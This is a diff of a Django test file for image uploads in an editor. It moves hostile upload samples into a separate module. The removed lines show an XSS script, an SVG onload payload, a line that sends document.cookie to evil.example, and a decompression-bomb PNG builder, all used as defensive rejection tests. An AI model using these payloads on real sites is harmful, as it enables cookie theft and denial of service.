@@ -1,8 +1,6 @@
 """Pictures that come in through the editor: with real files, good ones and hostile ones."""
 
 import json
-import struct
-import zlib
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -14,30 +12,15 @@ from PIL import Image as Pillow
 from pytest_django import Settings
 
 from images.models import Image
+from publishing.editor.pictures import choice
 from publishing.roles import Role
 from tests.factories import ImageFactory, picture_bytes
+from tests.images.hostile import BOMB, HTML, SCRIPT, SVG
 from tests.roles import account, signed_in
 
 UPLOAD = "/admin/markdownx/upload/"
 
 pytestmark = pytest.mark.django_db
-
-
-def png_of(width: int, height: int) -> bytes:
-    """A PNG of one bit a pixel, all black, made without ever holding its pixels."""
-
-    def chunk(kind: bytes, body: bytes) -> bytes:
-        return (
-            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
-        )
-
-    packer = zlib.compressobj(9)
-    line = bytes(1 + -(-width // 8))
-    rows = b"".join([*(packer.compress(line) for _row in range(height)), packer.flush()])
-    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + b"".join(
-        [chunk(b"IHDR", header), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
-    )
 
 
 def not_a_picture(name: str) -> str:
@@ -47,10 +30,6 @@ def not_a_picture(name: str) -> str:
     )
 
 
-HTML = b"<!doctype html><title>x</title><script>alert(document.cookie)</script>"
-SCRIPT = b"fetch('//evil.example/' + document.cookie)"
-SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
-BOMB = png_of(12_000, 12_000)
 PNG = picture_bytes(7)
 JPEG = picture_bytes(7, width=640, height=480, format="JPEG")
 
@@ -81,11 +60,11 @@ class TestAccepted:
         response = critic.post(
             UPLOAD, {"image": file("Duel at Dawn.PNG", PNG), "alt": "A [duel]", "credit": "Jane"}
         )
+        image = Image.objects.get()
         assert (response.status_code, response.json()) == (
             200,
-            {"image_code": "![A \\[duel\\]](images/duel-at-dawn.png)"},
+            choice(image) | {"code": "![A \\[duel\\]](images/duel-at-dawn.png)"},
         )
-        image = Image.objects.get()
         assert (image.name, image.alt, image.decorative, image.credit) == (
             "duel-at-dawn.png",
             "A [duel]",
@@ -95,7 +74,7 @@ class TestAccepted:
 
     def test_a_decorative_one_has_no_words(self, critic: Client) -> None:
         response = critic.post(UPLOAD, {"image": file("duel.png", PNG), "decorative": "on"})
-        assert response.json() == {"image_code": "![](images/duel.png)"}
+        assert response.json()["code"] == "![](images/duel.png)"
         assert Image.objects.get().decorative is True
 
     def test_it_lies_under_a_random_name_upright_and_without_metadata(self, critic: Client) -> None:
@@ -116,8 +95,8 @@ class TestAccepted:
     def test_a_picture_that_is_there_is_shown_and_stays_as_it_is(self, critic: Client) -> None:
         ImageFactory(name="first.png", data=PNG, alt="First")
         response = critic.post(UPLOAD, {"image": file("second.png", PNG), "alt": "Second"})
-        assert response.json() == {
-            "image_code": "![Second](images/first.png)",
+        assert response.json() == choice(Image.objects.get()) | {
+            "code": "![Second](images/first.png)",
             "notice": (
                 "This picture was in the library already, as “first.png”. Its text there is "
                 "unchanged."
